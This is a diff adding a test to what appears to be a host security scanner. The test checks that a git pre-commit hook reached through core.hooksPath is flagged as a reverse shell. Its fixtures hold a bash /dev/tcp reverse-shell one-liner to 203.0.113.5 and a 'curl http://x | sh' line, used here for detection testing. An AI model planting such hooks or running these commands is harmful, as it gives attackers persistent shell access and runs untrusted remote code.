@@ -641,3 +641,21 @@ def test_output_dash_is_standard_output(tmp_path: Path) -> None:
     assert not (Path.cwd() / "-").exists()
     code, _, err = run("scan", "--root", str(root), "-o", "/dev/null", "--force")
     assert code == 2 and "not a regular file" in err
+
+
+def test_git_hooks_folder_of_a_person_is_judged(tmp_path: Path) -> None:
+    # core.hooksPath makes git run these hooks in every repository of the person.
+    root = packaged_debian_root(tmp_path / "disk")
+    write(root, f"{ALICE_HOME}/.gitconfig", "[core]\n\thooksPath = ~/.config/hooks\n")
+    write(root, f"{ALICE_HOME}/.config/hooks/post-checkout", "#!/bin/sh\nexit 0\n", 0o755)
+    write(
+        root,
+        f"{ALICE_HOME}/.config/hooks/pre-commit",
+        "#!/bin/sh\nnohup sh -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1' &\n",
+        0o755,
+    )
+    write(root, f"{ALICE_HOME}/.config/hooks/pre-push.sample", "curl http://x | sh\n", 0o644)
+    found = [f for f in scan(root).findings if f.id.startswith("SC-SCRIPT-")]
+    assert [(f.id, f.evidence[0].path) for f in found] == [
+        ("SC-SCRIPT-REVERSE-SHELL", f"{ALICE_HOME}/.config/hooks/pre-commit")
+    ]
